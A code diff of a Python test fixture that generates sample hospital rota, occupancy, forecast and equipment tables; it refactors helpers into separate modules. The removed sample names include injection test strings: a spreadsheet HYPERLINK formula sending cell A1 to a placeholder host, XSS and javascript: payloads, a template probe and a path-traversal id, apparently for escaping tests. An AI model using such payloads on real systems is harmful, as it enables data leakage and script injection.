@@ -2,52 +2,20 @@
 
 from __future__ import annotations
 
-import math
 from collections.abc import Mapping
-from datetime import UTC, date, datetime, timedelta
+from datetime import UTC, datetime
 from pathlib import Path
-from statistics import NormalDist
 from types import MappingProxyType
 
 import pyarrow as pa
 
-from data.calendar import local_instant, local_midnight
-from data.forecast import QUANTILE_LEVELS
+from data.calendar import local_midnight
 from data.run_tables import RUN_TABLES
 from data.runs import RunRecord, new_run, write_run
-
-ZONE = "Europe/London"
-FIRST_DAY = date(2026, 10, 19)
-DAYS = tuple(FIRST_DAY + timedelta(days=n) for n in range(7))
-LONG_NAME = "Intensive Care / High Dependency & [B]ay"
-UNITS = (
-    ("ICU", LONG_NAME, "critical_care", 12),
-    ("W1", '=HYPERLINK("http://x.invalid","Ward 1")', "ward", 24),
-    ("NA", "Notaufnahme Süd", "emergency", 16),
-)
-SHIFTS = (
-    ("E", "Early", "07:00", "15:00", False, "#f2c14e", 450),
-    ("L", "Late", "14:30", "22:30", False, "#7fb7be", 450),
-    ("N", "Night", "22:00", "07:30", True, "#33436b", 540),
-)
-PEOPLE = (
-    ("0017", "[red]", "ICU", "RN"),
-    ("S2", '=HYPERLINK("http://x.invalid/?"&A1,"rota")', "ICU", "RN"),
-    ("S3", "</script><script>alert(1)</script>", "ICU", "RN"),
-    ("S4", "Jürgen Müßig", "ICU", "HCA"),
-    ("S5", "[/ICU]", "ICU", "HCA"),
-    ("-6", "-1+1", "W1", "RN"),
-    ("s2", 'O\'Brien "Ann" & Co', "W1", "RN"),
-    ("../S8", "{{7*7}}", "W1", "RN"),
-    ("CON", "<img src=x onerror=alert(1)>", "W1", "HCA"),
-    ("S10", "[x](javascript:alert(3))", "W1", "HCA"),
-    ("S11", "＝1+1", "NA", "RN"),
-    ("@12", "+441632960000", "NA", "RN"),
-    ("S13", ":warning: 'tis", "NA", "RN"),
-    ("S14", "Bank Only", "NA", "HCA"),
-)
-SHIFT_MINUTES = {"E": (7 * 60, 15 * 60), "L": (14 * 60 + 30, 22 * 60 + 30), "N": (22 * 60, 31 * 60 + 30)}
-_NORMAL = NormalDist()
+from tests.reports.sample_demand import forecast_rows, history_rows, occupancy_rows, series_rows
+from tests.reports.sample_equipment import equipment_rows
+from tests.reports.sample_hospital import DAYS, FIRST_DAY, SHIFTS, UNITS, ZONE
+from tests.reports.sample_staffing import coverage_rows, people_rows, requirement_rows, roster_rows
 
 
 def write_sample_run(
@@ -78,8 +46,8 @@ def sample_tables() -> dict[str, pa.Table]:
             {"shift_id": s, "name": n, "start": a, "end": b, "is_night": x, "colour": c, "paid_minutes": p}
             for s, n, a, b, x, c, p in SHIFTS
         ],
-        "roster": _roster(),
-        "people": _people(_roster()),
+        "roster": roster_rows(),
+        "people": people_rows(roster_rows()),
         "absences": [
             {"staff_id": "S4", "date": DAYS[0], "kind": "annual_leave"},
             {"staff_id": "S4", "date": DAYS[1], "kind": "annual_leave"},
@@ -102,8 +70,8 @@ def sample_tables() -> dict[str, pa.Table]:
             for s, past, new in (("S2", 9, 0), ("S3", 10, 2))
             for kind in ("nights", "weekends", "holidays", "late_changes", "refused_wishes")
         ],
-        "coverage": _coverage(),
-        "requirements": _requirements(),
+        "coverage": coverage_rows(),
+        "requirements": requirement_rows(),
         "breaches": [
             {
                 "rule": "weekends",
@@ -128,66 +96,16 @@ def sample_tables() -> dict[str, pa.Table]:
             {"staff_id": "S2", "date": DAYS[2], "before": "ICU E", "after": "ICU L"},
             {"staff_id": "S11", "date": DAYS[3], "before": None, "after": "NA N"},
         ],
-        "occupancy": _occupancy(),
+        "occupancy": occupancy_rows(),
         "forecast_peaks": [
             {"unit_id": unit, "first_day": DAYS[0], "n_days": 7, "quantile": level, "value": value}
             for unit, p50, p90 in ((UNITS[0][0], 21.0, 26.0), ("", 47.0, 53.0))
             for level, value in ((0.5, p50), (0.9, p90))
         ],
-        "history": _history(),
-        "forecast": _forecast(),
-        "forecast_series": _series(),
-        "equipment": _equipment(),
-        "equipment_moves": [
-            {
-                "date": DAYS[1],
-                "type_id": "infusion_pump",
-                "from_unit_id": "POOL",
-                "to_unit_id": "ICU",
-                "n_devices": 4,
-                "departs": datetime(2026, 10, 20, 7, 0, tzinfo=UTC),
-                "ready": datetime(2026, 10, 20, 7, 45, tzinfo=UTC),
-                "asset_ids": "P1 P2 P3 P4",
-                "minutes": 45,
-                "cost_pence": 6000,
-            }
-        ],
-        "equipment_rentals": [
-            {
-                "type_id": "ventilator",
-                "unit_id": "ICU",
-                "first_day": DAYS[2],
-                "last_day": DAYS[6],
-                "n_devices": 2,
-                "paid_days": 14,
-                "used_days": 6.2,
-                "cost_pence": 90_000,
-            }
-        ],
-        "equipment_services": [
-            {
-                "asset_id": "V7",
-                "type_id": "ventilator",
-                "unit_id": "ICU",
-                "first_day": DAYS[1],
-                "last_day": DAYS[2],
-                "due_day": DAYS[4],
-                "days_late": 0,
-            }
-        ],
-        "equipment_types": [
-            {
-                "type_id": "ventilator",
-                "name": "Ventilator",
-                "sharing": "proportional",
-                "n_devices": 12,
-                "n_lent": 0,
-                "expected_short": 5.6,
-                "cost_pence": 1_490_000,
-                "status": "optimal",
-                "one_more_pence": 210_000,
-            }
-        ],
+        "history": history_rows(),
+        "forecast": forecast_rows(),
+        "forecast_series": series_rows(),
+        **equipment_rows(),
         "decisions": [
             {"rank": 1, "topic": "staffing", "unit_id": "ICU", "text": "Open 3 RN nights to the bank today?"},
             {"rank": 2, "topic": "beds", "unit_id": "W1", "text": "Hold 2 elective admissions on Thu?"},
@@ -197,219 +115,8 @@ def sample_tables() -> dict[str, pa.Table]:
     return {schema.name: schema.table(rows.get(schema.name, [])) for schema in RUN_TABLES}
 
 
-def _home_shift(person: int, day: int) -> str | None:
-    """A pattern of 5 on and 2 off that starts on another day for each person."""
-    phase = (day + 2 * person) % 7
-    return None if phase >= 5 else ("E", "L", "N")[(person + day // 4) % 3]
-
-
-def _roster() -> list[dict[str, object]]:
-    rows = []
-    for number, (staff_id, _, unit_id, skill) in enumerate(PEOPLE):
-        for n, day in enumerate(DAYS):
-            shift = _home_shift(number, n)
-            if shift is None or (staff_id, n) in {("S4", 0), ("S4", 1), ("S10", 4)}:
-                continue
-            floats = staff_id == "S5" and n == 3
-            source = "float" if floats else "overtime" if staff_id == "S2" and n == 6 else "contract"
-            rows.append(_assignment(staff_id, "W1" if floats else unit_id, skill, shift, day, source))
-    rows.append(_assignment("agency-1", "NA", "RN", "N", DAYS[5], "agency"))
-    rows.append(_assignment("bank-1", "ICU", "RN", "E", DAYS[2], "bank"))
-    return rows
-
-
-def _assignment(
-    staff_id: str, unit_id: str, skill: str, shift: str, day: date, source: str
-) -> dict[str, object]:
-    start, end = (local_instant(day, minute, ZONE) for minute in SHIFT_MINUTES[shift])
-    paid = int((end - start).total_seconds() // 60) - 30
-    return {
-        "staff_id": staff_id,
-        "unit_id": unit_id,
-        "skill_id": skill,
-        "shift_id": shift,
-        "date": day,
-        "start": start,
-        "end": end,
-        "paid_minutes": paid,
-        "source": source,
-    }
-
-
-def _people(roster: list[dict[str, object]]) -> list[dict[str, object]]:
-    rows = []
-    for staff_id, name, unit_id, skill in PEOPLE:
-        own = [row for row in roster if row["staff_id"] == staff_id]
-        rows.append(
-            {
-                "staff_id": staff_id,
-                "name": name,
-                "unit_id": unit_id,
-                "skill_id": skill,
-                "contract_minutes": None if staff_id == "S14" else 2250,
-                "paid_minutes": sum(int(str(row["paid_minutes"])) for row in own),
-                "credited_minutes": {"S4": 900, "S10": 450}.get(staff_id, 0),
-                "n_nights": sum(row["shift_id"] == "N" for row in own),
-                "n_weekends": int(any(row["date"] in DAYS[5:] for row in own)),
-            }
-        )
-    return rows
-
-
-def _coverage() -> list[dict[str, object]]:
-    roster, rows = _roster(), []
-    for unit_id, *_ in UNITS:
-        for day in DAYS:
-            for shift in SHIFT_MINUTES:
-                for skill in ("RN", "HCA"):
-                    there = [
-                        row["source"]
-                        for row in roster
-                        if (row["unit_id"], row["date"], row["shift_id"], row["skill_id"])
-                        == (unit_id, day, shift, skill)
-                    ]
-                    required = 1
-                    bank, agency = there.count("bank"), there.count("agency")
-                    short = max(required - len(there), 0)
-                    rows.append(
-                        {
-                            "unit_id": unit_id,
-                            "date": day,
-                            "shift_id": shift,
-                            "skill_id": skill,
-                            "required": required,
-                            "own": len(there) - bank - agency,
-                            "bank": bank,
-                            "agency": agency,
-                            "open": short,
-                            "expected_shortage": short + 0.1,
-                            "cost_pence": 30_000 * short,
-                        }
-                    )
-    return rows
-
-
-def _requirements() -> list[dict[str, object]]:
-    return [
-        {key: row[key] for key in ("unit_id", "date", "shift_id", "skill_id", "required")}
-        | {"p10": 1, "p50": 1, "p90": 2, "minimum": 1, "shortage_pence": 30_000, "census_p50": 10.0}
-        for row in _coverage()
-    ]
-
-
-def _census(beds: int, hour: float) -> float:
-    return beds * (0.88 + 0.06 * math.sin(hour / 24 * math.tau - 2) + 0.04 * math.sin(hour / 168 * math.tau))
-
-
-def _occupancy() -> list[dict[str, object]]:
-    rows = []
-    for unit_id, _, _, beds in UNITS:
-        for n, day in enumerate(DAYS):
-            middle = _census(beds, n * 24 + 14)
-            spread = beds * 0.03 * math.sqrt(n + 1)
-            rows.append(
-                {
-                    "unit_id": unit_id,
-                    "date": day,
-                    "beds_staffed": beds,
-                    "p10": middle - 1.28 * spread,
-                    "p50": middle,
-                    "p90": middle + 1.28 * spread,
-                    "chance_full": 1 - NormalDist(middle, spread).cdf(beds),
-                }
-            )
-    return rows
-
-
-def _history() -> list[dict[str, object]]:
-    rows = []
-    for unit_id, _, _, beds in UNITS:
-        for n in range(-28, 0):
-            at = local_midnight(FIRST_DAY + timedelta(days=n), ZONE)
-            for measure, value in (
-                ("occupied_beds", round(_census(beds, n * 24))),
-                ("admissions", None if n == -9 else float(beds // 3 + (n * 7) % 5)),
-            ):
-                rows.append(
-                    {"unit_id": unit_id, "measure": measure, "item_id": "", "time": at, "value": value}
-                )
-    return rows
-
-
-def _quantiles(
-    unit_id: str, measure: str, at: datetime, step: int, mean: float, sd: float
-) -> list[dict[str, object]]:
-    return [
-        {
-            "unit_id": unit_id,
-            "measure": measure,
-            "item_id": "",
-            "time": at,
-            "step_minutes": step,
-            "quantile": level,
-            "value": max(mean + sd * _NORMAL.inv_cdf(level), 0.0),
-        }
-        for level in QUANTILE_LEVELS
-    ]
-
-
-def _forecast() -> list[dict[str, object]]:
-    rows = []
-    start, end = local_midnight(FIRST_DAY, ZONE), local_midnight(DAYS[-1] + timedelta(days=1), ZONE)
-    n_hours = int((end - start).total_seconds() // 3600)
-    for unit_id, _, _, beds in UNITS:
-        for hour in range(n_hours):
-            at = start + timedelta(hours=hour)
-            spread = beds * 0.03 * math.sqrt(hour / 24 + 0.5)
-            rows += _quantiles(unit_id, "occupied_beds", at, 60, _census(beds, hour), spread)
-        for n, day in enumerate(DAYS):
-            mean = beds // 3 + 2 + (n % 3)
-            rows += _quantiles(unit_id, "admissions", local_midnight(day, ZONE), 1440, mean, math.sqrt(mean))
-    return rows
-
-
-def _series() -> list[dict[str, object]]:
-    return [
-        {
-            "unit_id": unit_id,
-            "measure": measure,
-            "item_id": "",
-            "forecaster": "ets" if measure == "admissions" else "census_from_stays",
-            "reason": "lowest weighted interval score of 3 over 4 past weeks (2.1 against 2.4 and 2.6)",
-            "fallback": "prophet did not converge" if unit_id == "W1" and measure == "admissions" else None,
-            "n_history_days": 1095,
-            "mase": 0.82,
-            "wis": 2.1,
-            "coverage_80": 0.79,
-        }
-        for unit_id, *_ in UNITS
-        for measure in ("admissions", "occupied_beds")
-    ]
-
-
-def _equipment() -> list[dict[str, object]]:
-    return [
-        {
-            "unit_id": unit_id,
-            "date": day,
-            "type_id": kind,
-            "available": 10 if kind == "infusion_pump" else 6,
-            "rented": 2 if (kind, unit_id) == ("ventilator", "ICU") and n >= 2 else 0,
-            "stand_ins": 0,
-            "demand_p50": 8.0,
-            "demand_p90": 11.0 if kind == "infusion_pump" else 7.0,
-            "expected_short": 0.4,
-            "chance_short": 0.3,
-            "short": 1 if (unit_id, kind, n) == ("W1", "infusion_pump", 3) else 0,
-        }
-        for unit_id in ("ICU", "W1", "POOL")
-        for n, day in enumerate(DAYS)
-        for kind in ("infusion_pump", "ventilator")
-    ]
-
-
 def _record(run_id: str) -> dict[str, object]:
-    n_open = sum(int(str(row["open"])) for row in _coverage())
+    n_open = sum(int(str(row["open"])) for row in coverage_rows())
     return {
         "run_id": run_id,
         "created": datetime(2026, 10, 16, 9, 30, tzinfo=UTC).isoformat(),
